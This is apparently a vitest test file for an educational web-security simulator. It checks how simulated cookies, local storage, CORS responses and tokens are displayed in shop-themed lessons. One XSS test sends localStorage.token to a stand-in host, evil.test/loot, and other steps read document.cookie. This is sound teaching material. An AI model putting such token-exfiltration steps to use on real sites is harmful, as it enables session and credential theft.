import { describe, expect, test } from "vitest";
import { Sandbox } from "../../../../src/lesson/running/sandbox.ts";
import { lineText } from "../../../../src/stage/canvas/text.ts";
import { browserSections } from "../../../../src/stage/picture/box/browser-box.ts";
import { timeline } from "../../../../src/stage/timeline/timeline.ts";
import { drawn } from "../../course.ts";

const TITLE = /│ (Local storage.*?) *│/;

/** The world of shop-xss has a token in the local storage of shop.test. */
test.each([
  ["https://shop.test/profile", "Local storage"],
  ["https://evil.test/", "Local storage  shop.test"],
])("at %s, what the shop keeps stands under: %s", (url, title) => {
  expect(TITLE.exec(drawn("shop-xss", [`browser open ${url}`]))?.[1]).toBe(title);
});

test("a store that is empty is nobody's", () => {
  const steps = ["page remove localStorage.token", "browser open https://evil.test/"];
  expect(TITLE.exec(drawn("shop-xss", steps))?.[1]).toBe("Local storage");
});

const GUARDED = 'server route /in sets "sid=s1; Path=/; Secure; HttpOnly; SameSite=Strict"';

test.each([
  [100, 30],
  [80, 24],
  [60, 18],
])("at %ix%i a cookie shows all that guards it", (cols, rows) => {
  const picture = drawn("shop-rules", [GUARDED, "browser open https://shop.test/in"], "none", cols, rows);
  expect(picture).toMatch(/sid=s1/);
  expect(picture).toMatch(/HttpOnly +Secure +(SameSite=)?Strict/);
});

test("where not all cookies have two rows, each says beside its pair at least when it is sent", () => {
  const steps = ["browser open https://shop.test/enter", "browser open https://evil.test/"];
  const picture = drawn("shop-same-site", steps, "none", 80, 24);
  for (const text of ["Cookie jar  shop.test", "pay=p1  … Strict", "chat=c1  … None", "sid=s1"])
    expect(picture).toContain(text);
});

test("where cookies are for different hosts, each says for which, and a dot says that those below are among them", () => {
  const steps = ["browser open https://shop.test/welcome"];
  for (const next of [[], ["browser open https://api.shop.test/"], ["browser open https://evil.test/"]]) {
    const picture = drawn("shop-rules", [...steps, ...next]);
    expect(picture).toMatch(/cart=7 {2}shop\.test/);
    expect(picture).toMatch(/lang=en {2}\.shop\.test/);
    expect(picture).not.toContain("Cookie jar  shop.test");
  }
});

test("it is said even where there is one column less than two blanks take", () => {
  const login = "browser submit https://shop.test/login with username=shivam password=correct-horse";
  expect(drawn("shop-plant", ["browser open https://shop.test/login", login], "none", 100, 30, -1)).toMatch(
    /sessionId=abc123 {1,2}\.shop\.test/,
  );
});

test("where each is for the host that set it, it is said only of those that are for another page", () => {
  const enter = "browser open https://shop.test/enter";
  expect(drawn("shop-same-site", [enter])).not.toMatch(/[a-z]+=[a-z]1 {2}\.?shop\.test|jar {2}shop/);
  expect(drawn("shop-same-site", [enter, "browser open https://evil.test/"])).toContain(
    "Cookie jar  shop.test",
  );
});

describe("what a script read stands under the page", () => {
  const bare = "browser open https://shop.test/bare";
  const enter = "browser open https://shop.test/enter";

  test.each([
    ["a cookie without HttpOnly", [bare, "page read document.cookie"], "script got id=b1"],
    ["none that it may read", [enter, "page read document.cookie"], "script got nothing"],
  ])("%s", (_, steps, said) => {
    expect(drawn("shop-guards", steps)).toContain(said);
  });

  test("an answer that the browser keeps from it is an error to it, at every beat from the one on in which it arrives", () => {
    const fetched = "page fetch GET https://api.shop.test/profile credentials include";
    const at = (beat: number) => drawn("shop-cors", [fetched], "none", 100, 30, beat);
    for (const beat of [-2, -1]) {
      expect(at(beat)).toContain("200 OK");
      expect(at(beat)).toContain("script got an error only");
      expect(at(beat)).not.toContain("script got 200");
    }
    const allowed = ["server set cors https://shop.test credentials yes at api.shop.test", fetched];
    expect(drawn("shop-cors", allowed)).toContain("script got 200 OK");
  });

  test("of what it sends to another site without asking whether it may, there is nothing to read", () => {
    const steps = [
      "browser open https://shop.test/bike",
      "page send localStorage.token to https://evil.test/loot",
    ];
    expect(drawn("shop-xss", steps, "none", 100, 30, -1)).toContain("script got nothing to read");
    const own = [...steps.slice(0, 1), "page fetch GET /profile bearer localStorage.token"];
    expect(drawn("shop-xss", own, "none", 100, 30, -1)).toContain("script got 200 OK");
  });

  test("until the next beat, and not if it wrote something", () => {
    const read = [bare, "page read document.cookie"];
    expect(drawn("shop-guards", [...read, enter], "none", 100, 30, -1)).not.toContain("script got");
    expect(drawn("shop-guards", [bare, 'page write document.cookie "a=1"'])).not.toContain("script got");
  });
});

test("the one row of wire on a small screen shows the value that travels, where there is room for it", () => {
  const login = "browser submit /login with username=shivam password=correct-horse";
  const row = (world: string, steps: string[], beat: number) =>
    drawn(world, steps, "none", 60, 18, beat).split("\n")[2]?.trimEnd();
  expect(row("shop-session", [login], -2)).toMatch(/Server {2}200 {2}sessionId=abc123$/);
  expect(row("shop-session", [login, "browser open /profile"], -4)).toMatch(/GET \/profile {2}a cookie$/);
  const fetched = ["page fetch POST /login json username=shivam password=correct-horse"];
  expect(row("shop-jwt", fetched, -1)).toMatch(/Server {2}200 {2}eyJh….eyJ1….\S{4}…$/);
});

test("only the new cookie is marked as new, and not one that differs from it in the host-only flag alone", () => {
  const steps = [
    'server route /own sets "sid=mine"',
    'server route /wide sets "sid=wide; Domain=shop.test"',
    "browser open https://shop.test/own",
    "browser open https://shop.test/wide",
  ];
  const picture = drawn("shop-rules", steps, "none", 100, 30, -1);
  expect(picture).toMatch(/▸ sid=wide/);
  expect(picture).toMatch(/ {2}sid=mine/);
});

const SHOP = [
  "server start shop.test",
  'server route /domain sets "a=1; Domain=shop.test; Path=/"',
  'server route /host sets "a=2; Path=/"',
  'server route /below sets "a=3; Path=/below"',
];

/** The cookies in the jar at the beat in which the last one is stored, those that are new with a mark. */
function jarAfter(...steps: string[]): string[] {
  const laidOut = timeline(new Sandbox("x", [...SHOP, ...steps]).show(), "play");
  const beat = laidOut.beats.findLast(
    (b) => b.kind === "scene" && b.events.some((e) => e.type === "cookie.stored"),
  );
  if (beat?.kind !== "scene") throw new Error("nothing is stored");
  const rows = browserSections(laidOut, beat)
    .filter(({ title }) => lineText(title[0] ?? []).startsWith("Cookie jar"))
    .flatMap((section) => section.rows);
  return rows.map(({ ways, fresh }) => `${fresh ? "▸ " : ""}${lineText(ways.at(-1) ?? [])}`);
}

describe("the mark of a new cookie", () => {
  test("is the new one's alone: of two with one name, the host-only one is another (RFC 6265bis, host-only-flag)", () => {
    expect(jarAfter("browser open /domain", "browser open /host")).toEqual(["a=1", "▸ a=2"]);
    expect(jarAfter("browser open /host", "browser open /domain")).toEqual(["a=2", "▸ a=1"]);
  });

  test("and so is one with another path; one that is overwritten is one cookie", () => {
    expect(
      jarAfter("browser open /host", "browser open /below").filter((row) => row.startsWith("▸")),
    ).toEqual(["▸ a=3"]);
    expect(jarAfter("browser open /host", "browser open /host")).toEqual(["▸ a=2"]);
  });
});

describe("an arrow names all that travels", () => {
  const enter = "browser open https://shop.test/welcome";
  const loggedIn = [
    "browser submit /login with username=shivam password=correct-horse",
    "server set mode jwt-header",
    "page fetch POST /login json username=shivam password=correct-horse",
    "page keep token in memory",
    "page fetch GET /profile bearer memory.token",
  ];

  test.each([
    [100, 30, /Set-Cookie: cart=7, lang=en/],
    [80, 24, /cart=7, lang=en/],
  ])("both cookies of an answer at %dx%d", (cols, rows, said) => {
    expect(drawn("shop-rules", [enter], "none", cols, rows, -1)).toMatch(said);
  });

  test("how many there are, if there is no room for them", () => {
    expect(drawn("shop-same-site", ["browser open https://shop.test/enter"], "none", 80, 24, -1)).toContain(
      "3 cookies",
    );
  });

  test("a token beside a cookie", () => {
    const picture = drawn("shop-session", loggedIn, "none", 100, 30, -4);
    expect(picture).toMatch(/a cookie, eyJh….*…/);
  });
});
